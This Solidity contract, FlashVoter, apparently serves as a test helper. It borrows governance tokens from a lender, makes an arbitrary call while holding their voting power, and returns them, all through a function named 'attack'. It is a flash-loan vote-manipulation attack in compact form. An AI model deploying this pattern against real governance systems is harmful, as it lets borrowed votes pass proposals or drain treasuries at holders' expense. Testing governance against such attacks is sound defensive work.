// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// @notice Borrows votes, makes one call with them and gives them back, all in one transaction.
contract FlashVoter {
    constructor(IVotes token) {
        token.delegate(address(this));
    }

    function attack(
        IERC20 token,
        address lender,
        uint256 amount,
        address target,
        bytes calldata data
    ) external {
        token.transferFrom(lender, address(this), amount);
        Address.functionCall(target, data);
        token.transfer(lender, amount);
    }

    /// @notice The same without giving back.
    function call(address target, bytes calldata data) external {
        Address.functionCall(target, data);
    }
}
